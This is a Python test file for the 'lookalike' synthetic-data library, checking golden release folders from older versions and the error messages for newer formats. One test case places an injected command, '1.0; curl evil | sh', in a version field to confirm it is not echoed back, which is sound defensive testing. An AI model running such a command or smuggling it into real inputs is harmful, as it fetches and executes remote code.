"""Folders that older versions wrote: read, audited, measured, queried and drawn from, with the answers of that day."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import lookalike as la
from lookalike.errors import DataError, RecipeError
from lookalike.evaluation.compare.folder import Kept
from lookalike.files.releases.private import read_graph
from lookalike.files.releases.read import ReleaseFolder
from lookalike.version import __version__
from tests.golden.making import ANSWERS, COMPARISON, GOLDEN, ORIGINAL, answered, digest

VERSIONS = sorted(path.parent for path in GOLDEN.glob(f"*/{ANSWERS}"))
ANSWERED = {
    (version.name, name): answers
    for version in VERSIONS
    for name, answers in json.loads((version / ANSWERS).read_text(encoding="utf-8")).items()
}
NEWEST = GOLDEN / __version__


def test_this_version_has_golden_releases_of_every_form_in_one_file_and_in_parts() -> None:
    assert NEWEST.exists(), "a new version: make its golden releases (python -m tests.golden.making) and commit them"
    manifests = [ReleaseFolder(NEWEST / name).manifest for version, name in ANSWERED if version == __version__]
    made = {(manifest.form, len(next(iter(manifest.parts.values()), ())) > 1) for manifest in manifests}
    forms = {"grouped", "bucketized", "perturbed"}
    assert made == {("matched", False), *((form, parted) for form in forms for parted in (False, True))}


@pytest.mark.parametrize(("version", "name"), ANSWERED, ids=map("-".join, ANSWERED))
def test_an_old_folder_gives_the_answers_that_it_gave_then(version: str, name: str) -> None:
    then, now = ANSWERED[version, name], answered(GOLDEN / version, name)
    assert now["digest"] == then["digest"], "a golden folder was changed; it must stay as it was written"
    assert then["passed"]
    losses, counts = (pytest.approx(then[key], nan_ok=True) for key in ("losses", "counts"))
    assert {**now, "losses": losses, "counts": counts} == {**then, "losses": losses, "counts": counts}
    assert (now["losses"], now["counts"]) == (losses, counts)


def changed(tmp_path: Path, change: Callable[[dict[str, Any]], object], name: str = "grouped") -> Path:
    """A copy of a golden folder whose descriptor was changed."""
    folder = shutil.copytree(NEWEST / name, tmp_path / "release")
    package = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    change(package)
    (folder / "datapackage.json").write_text(json.dumps(package), encoding="utf-8")
    return folder


def test_what_a_later_version_adds_to_a_format_is_read_past_and_not_audited(tmp_path: Path) -> None:
    def add(package: dict[str, Any]) -> None:
        package["licenses"] = [{"name": "later"}]
        block = package["lookalike"]
        block |= {"version": "0.9.1", "later": {"a": [1]}}
        for entry in (block["promises"][0], block["dummies"], block["tables"][0], block["tables"][0]["parts"][0]):
            entry["later"] = 1
        block["tables"][0]["columns"][0]["later"] = None

    folder = changed(tmp_path, add, "grouped-in-parts")
    assert la.open_release(folder).query("SELECT COUNT(*)").value == 96
    assert la.measure(NEWEST / ORIGINAL, folder) == la.measure(NEWEST / ORIGINAL, NEWEST / "grouped-in-parts")
    audit = la.verify(NEWEST / ORIGINAL, folder)
    assert not audit.passed
    (failed,) = (check for check in audit.checks if not check.passed)
    assert failed.name == "description"
    assert 'has "licenses" in datapackage.json, which format 3 of releases does not have' in failed.detail
    assert "Use a newer lookalike to audit it" in failed.detail


@pytest.mark.parametrize(
    ("format", "version", "said"),
    [
        (4, "0.9.1", "reads 1, 2 and 3. Version 0.9.1 wrote it: install that or a later one."),
        (7, None, "A newer one wrote it: install the newest lookalike."),
        (4, "1.0; curl evil | sh", "A newer one wrote it: install the newest lookalike."),
        (0, "0.9.1", "No version writes that: the file is damaged, get it again."),
        ("x" * 999, "0.9.1", "No version writes that"),
    ],
)
def test_a_newer_format_says_which_version_reads_it(tmp_path: Path, format: object, version: object, said: str) -> None:
    folder = changed(tmp_path, lambda package: package["lookalike"].update(format=format, version=version))
    for read in (la.open_release, la.sample, lambda folder: la.verify(NEWEST / ORIGINAL, folder)):
        with pytest.raises(DataError, match=re.escape(said)) as told:
            read(folder)
        assert len(str(told.value)) < 400


def test_a_newer_schema_private_folder_and_comparison_say_so_too(tmp_path: Path) -> None:
    folder = shutil.copytree(NEWEST / "grouped", tmp_path / "release")
    schema = folder / "schema.yaml"
    schema.write_text(schema.read_text(encoding="utf-8").replace("lookalike: 1", "lookalike: 2"), encoding="utf-8")
    with pytest.raises(la.SchemaError, match="has format 2.*install the newest"):
        ReleaseFolder(folder).schema
    private = shutil.copytree(NEWEST / "matched PRIVATE", tmp_path / "matched PRIVATE")
    assert len(read_graph(private).starts) == 97
    (private / "private.json").write_text('{"lookalike": {"private": 2, "files": []}}')
    with pytest.raises(DataError, match="has format 2.*install the newest"):
        read_graph(private)
    kept = shutil.copytree(NEWEST / COMPARISON, tmp_path / "kept")
    summary = json.loads((kept / "comparison.json").read_text(encoding="utf-8"))
    assert la.Comparison.from_plain(summary, ("diagnosis",)).runs[0].status == "done"
    (kept / "comparison.json").write_text(json.dumps({**summary, "format": 2, "version": "0.9.1"}))
    with pytest.raises(RecipeError, match="has format 2.*Version 0.9.1 wrote it"):
        Kept(kept)
    # A folder of before there was a format is one of format 1.
    (kept / "comparison.json").write_text(json.dumps({"kind": summary["kind"]}))
    Kept(kept)


def test_golden_folders_name_nobody_but_the_original_does() -> None:
    assert "made-up-001" in (NEWEST / ORIGINAL).read_text(encoding="utf-8")
    for name in (name for version, name in ANSWERED if version == __version__):
        assert digest(NEWEST / name)
        assert not any(b"made-up-" in path.read_bytes() for path in (NEWEST / name).rglob("*.*") if path.is_file())
